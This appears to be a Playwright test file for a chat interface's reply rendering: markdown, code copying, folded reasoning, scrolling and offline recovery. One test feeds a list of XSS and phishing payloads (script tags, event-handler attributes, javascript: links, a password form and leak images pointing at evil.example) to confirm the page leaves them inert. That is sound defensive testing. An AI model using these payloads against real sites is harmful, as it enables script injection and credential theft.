"""How a reply looks and behaves while it is written, and that nothing in it acts. The model repeats what it is told."""

import re

import pytest
from playwright.sync_api import BrowserContext, expect

from tests.browser.conftest import OpenTab
from tests.browser.tab import Tab, Watch

CODE = 'def greet(name):\n    return f"Hello <{name}>"\n'
MARKDOWN = f"""\
# A title

Some **bold** text and `code`.

- one
- two
  1. nested

| name | size |
|---|--:|
| fox | 3 |

```python
{CODE}```

The [end](https://example.org/page)."""

HOSTILE = """\
<script>window.hacked = 1; alert(1)</script>

<style>body { display: none !important }</style>

<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>

<iframe src="https://evil.example/frame"></iframe> <object data="https://evil.example/o"></object>

<img src="https://evil.example/pixel.png" onerror="window.hacked = 1"> <svg onload="window.hacked = 1"></svg>

![image](https://evil.example/leak.png?secret=1) ![again][ref]

[ref]: https://evil.example/ref.png

[click me](javascript:window.hacked=1) [and me](JaVaScRiPt&colon;window.hacked=1) <javascript:window.hacked=1>

[data](data:text/html,<script>window.hacked=1</script>) <a href="https://evil.example" onclick="window.hacked=1">x</a>

<div id="app" class="fixed" style="position:fixed;inset:0;background:url(https://evil.example/css.png)">cover</div>

| <img src=x onerror=window.hacked=1> | b |
|---|---|
| <script>window.hacked=1</script> | [x](vbscript:window.hacked=1) |

```html"><img src=x onerror=window.hacked=1>
</code></pre><script>window.hacked = 1</script><img src=x onerror=window.hacked=1>"""

ACTIVE = r"""
(root) => [...root.querySelectorAll('*')].filter((element) =>
  element.matches('script, style, form, input, iframe, object, embed, img, svg, audio, video, link, meta, [style]')
  || element.getAttributeNames().some((name) => name.startsWith('on'))
  || !/^(c\d+)?$/.test(element.id)  // the page's own elements have such ids
).map((element) => element.outerHTML)
"""
THOUGHTS = ' '.join(f'thought {number}' for number in range(60))
PARAGRAPHS = '\n\n'.join(
    f'Paragraph {number} has **some** words in it, and a few more of them.' for number in range(40)
)


def test_markdown_is_shown_as_what_it_means(tab: Tab) -> None:
    tab.ask(MARKDOWN)
    for _ in ('as it was streamed', 'as it is stored'):
        reply = tab.reply
        expect(reply.get_by_role('heading', name='A title')).to_be_visible()
        expect(reply.locator('strong')).to_have_text('bold')
        expect(reply.locator('ul > li > ol > li')).to_have_text('nested')
        expect(reply.get_by_role('cell', name='fox')).to_be_visible()
        assert reply.locator('pre').inner_text().strip() == CODE.strip()
        link = reply.get_by_role('link', name='end')
        expect(link).to_have_attribute('target', '_blank')
        expect(link).to_have_attribute('href', 'https://example.org/page')
        tab.reload()


def test_code_is_copied_as_it_was_written(tab: Tab, context: BrowserContext) -> None:
    context.grant_permissions(['clipboard-read', 'clipboard-write'])
    tab.ask(MARKDOWN)
    button = tab.reply.locator('.copy-code')
    button.click()

    expect(button).to_have_text('Copied')
    assert tab.page.evaluate('navigator.clipboard.readText()') == CODE


def test_thoughts_are_open_while_they_stream_and_fold_when_the_answer_begins(tab: Tab) -> None:
    tab.send(f'<think>{THOUGHTS}</think>{PARAGRAPHS}')
    thoughts = tab.reply.locator('[data-testid=reasoning]')
    text, title = thoughts.locator('.reasoning-text'), thoughts.locator('summary')
    expect(title).to_have_text('Thinking')
    expect(text).to_be_visible()
    expect(text).to_contain_text('thought 20')

    expect(tab.reply.locator('.answer')).to_contain_text('Paragraph 1')
    expect(title).to_have_text(re.compile(r'^Thought for \d s$'))
    expect(text).to_be_hidden()
    title.click()
    expect(text).to_be_visible()
    expect(tab.reply.locator('.answer')).to_contain_text('Paragraph 9')
    expect(text).to_be_visible()
    tab.until_idle()
    expect(text).to_contain_text('thought 0 thought 1')

    tab.reload()
    expect(text).to_be_hidden()
    title.click()
    expect(text).to_contain_text('thought 0 thought 1')
    assert tab.reply_text().startswith('Paragraph 0')


def test_thoughts_that_were_folded_by_hand_stay_so(tab: Tab) -> None:
    tab.send(f'<think>{THOUGHTS}</think>done')
    thoughts = tab.reply.locator('[data-testid=reasoning]')
    text, title = thoughts.locator('.reasoning-text'), thoughts.locator('summary')
    expect(text).to_contain_text('thought 2')
    title.click()
    expect(text).to_be_hidden()
    expect(text).to_contain_text('thought 30')
    expect(text).to_be_hidden()
    title.click()
    expect(text).to_be_visible()
    tab.until_idle()

    assert tab.reply_text() == 'done'


def test_only_the_answer_is_copied(tab: Tab, context: BrowserContext) -> None:
    context.grant_permissions(['clipboard-read', 'clipboard-write'])
    tab.ask('<think>not this</think>The **answer**.')
    tab.reply.get_by_role('button', name='Copy', exact=True).click()

    tab.page.wait_for_function("async () => (await navigator.clipboard.readText()) === 'The **answer**.'")


@pytest.mark.timeout(120)
def test_messages_the_model_does_not_see_are_marked(tab: Tab) -> None:
    tab.part('settings-toggle').click()
    tab.part('setting-overflow').click()
    tab.page.get_by_role('option', name='Leave out the oldest messages').click()
    tab.part('setting-max_tokens').fill('2')
    expect(tab.page.locator('.setting.is-changed')).to_have_count(1)
    tab.ask('a ' * 60_000)
    expect(tab.part('left-out')).to_have_count(0)
    tab.ask('b ' * 50_000)
    expect(tab.part('message').first.locator('[data-testid=left-out]')).to_have_text('Not sent: the context is full')
    expect(tab.part('left-out')).to_have_count(1)
    tab.reload()
    expect(tab.part('left-out')).to_have_count(1)


def test_a_whole_message_is_copied_as_its_source(tab: Tab, context: BrowserContext) -> None:
    context.grant_permissions(['clipboard-read', 'clipboard-write'])
    tab.ask(MARKDOWN)
    tab.reply.get_by_role('button', name='Copy', exact=True).last.click()

    tab.page.wait_for_function('async (text) => (await navigator.clipboard.readText()) === text', arg=MARKDOWN)


@pytest.mark.parametrize('part', ['.answer', '.reasoning-text'])
def test_nothing_in_a_reply_acts(tab: Tab, part: str) -> None:
    tab.ask(HOSTILE if part == '.answer' else f'<think>{HOSTILE}</think>')
    for _ in ('as it was streamed', 'as it is stored'):
        text = tab.reply.locator(part)
        if part == '.reasoning-text':
            tab.reply.locator('summary').click()
        assert text.evaluate(ACTIVE) == []
        links = text.locator('a').evaluate_all('(links) => links.map((link) => new URL(link.href).protocol)')
        assert set(links) <= {'http:', 'https:', 'mailto:'}
        expect(text).to_contain_text('window.hacked = 1')
        expect(tab.composer).to_be_visible()
        assert tab.page.evaluate('window.hacked') is None
        tab.reload()


def test_what_is_finished_is_not_drawn_again(tab: Tab) -> None:
    tab.send(f'```python\n{CODE}```\n\n{PARAGRAPHS}')
    first = tab.reply.locator('p', has_text='Paragraph 0 ')
    expect(tab.reply.locator('p', has_text='Paragraph 3 ')).to_be_visible()
    tab.reply.locator('.code-block').evaluate('(element) => { element.mark = "code" }')
    first.evaluate('(element) => { element.mark = "paragraph" }')

    expect(tab.reply.locator('p', has_text='Paragraph 20 ')).to_be_attached()
    tab.until('streaming')
    assert first.evaluate('(element) => element.mark') == 'paragraph'
    tab.until_idle()
    assert first.evaluate('(element) => element.mark') == 'paragraph'
    assert tab.reply.locator('.code-block').evaluate('(element) => element.mark') == 'code'


def test_a_selection_in_the_finished_part_stays(tab: Tab) -> None:
    tab.send(PARAGRAPHS)
    expect(tab.reply.locator('p', has_text='Paragraph 2 ')).to_be_visible()
    tab.reply.locator('p', has_text='Paragraph 0 ').select_text()
    tab.until_idle()

    assert str(tab.page.evaluate('getSelection().toString()')).startswith('Paragraph 0 has some words')


def test_the_page_follows_the_reply_only_while_the_reader_is_at_its_end(open_tab: OpenTab) -> None:
    tab = open_tab(viewport={'width': 1000, 'height': 500})
    pane, to_end = tab.conversation, tab.page.get_by_role('button', name='Scroll to the end')
    rest = '(pane) => pane.scrollHeight - pane.scrollTop - pane.clientHeight'
    tab.send(PARAGRAPHS)
    expect(tab.reply.locator('p', has_text='Paragraph 9 ')).to_be_in_viewport()
    assert pane.evaluate(rest) < 60
    expect(to_end).to_be_hidden()

    pane.hover()
    tab.page.mouse.wheel(0, -300)
    expect(to_end).to_be_visible()
    position = pane.evaluate('(pane) => pane.scrollTop')
    expect(tab.reply.locator('p', has_text='Paragraph 18 ')).to_be_attached()
    tab.until('streaming')
    assert pane.evaluate('(pane) => pane.scrollTop') == position

    to_end.click()
    expect(to_end).to_be_hidden()
    expect(tab.reply.locator('p', has_text='Paragraph 27 ')).to_be_in_viewport()
    tab.until_idle()
    assert pane.evaluate(rest) < 60


@pytest.mark.timeout(120)
def test_a_tab_that_was_offline_for_a_while_misses_nothing(tab: Tab, context: BrowserContext, watch: Watch) -> None:
    watch.expect('ERR_INTERNET_DISCONNECTED')
    numbers = ' '.join(f'{number}' for number in range(1, 601))
    tab.page.evaluate('window.before = true')
    tab.send(numbers)
    tab.until_streamed(100)
    context.set_offline(True)
    tab.page.wait_for_timeout(3_000)
    context.set_offline(False)
    tab.until_idle()

    assert tab.reply_text() == numbers
    assert tab.page.evaluate('window.before')
